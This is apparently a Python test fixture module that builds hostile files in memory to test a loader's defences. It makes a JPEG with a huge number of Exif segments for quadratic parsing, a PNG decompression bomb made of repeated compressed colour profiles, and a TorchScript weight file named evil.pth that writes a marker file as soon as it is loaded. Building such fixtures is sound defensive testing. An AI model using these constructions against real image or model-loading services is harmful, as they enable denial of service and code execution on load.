"""The hostile files of the attacks, made in memory."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path
from typing import Any, cast

import torch
from PIL import Image


def photo(width: int = 64, height: int = 48) -> bytes:
    """A small ordinary JPEG."""
    target = io.BytesIO()
    Image.radial_gradient("L").resize((width, height)).convert("RGB").save(target, "JPEG")
    return target.getvalue()


def many_segments(count: int = 130_000) -> bytes:
    """A JPEG with very many small Exif segments: joining them one by one costs the square of their number."""
    data = photo()
    segment = b"\xff\xe1" + struct.pack(">H", 14) + b"Exif\0\0" + bytes(6)
    return data[:2] + segment * count + data[2:]


def many_profiles(count: int = 1000) -> bytes:
    """A PNG with very many compressed colour profiles of a megabyte of zeros."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    profile = chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(1_000_000), 9))
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress((b"\0" + bytes(24)) * 8))
    return b"\x89PNG\r\n\x1a\n" + header + profile * count + pixels + chunk(b"IEND", b"")


class Program(torch.nn.Module):
    """A module whose file carries a program: it writes a file when torch loads it, before anybody calls it."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        """The same."""
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.marker, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.marker = state[0]
        self.training = state[1]
        torch.save(torch.zeros(1), self.marker)


def weights_with_code(folder: Path, marker: Path) -> dict[str, bytes]:
    """A weight file that is a TorchScript archive; whoever loads it as such writes the marker."""
    path, jit = folder / "evil.pth", cast(Any, torch.jit)
    jit.script(Program(str(marker))).save(str(path))
    return {path.name: path.read_bytes()}
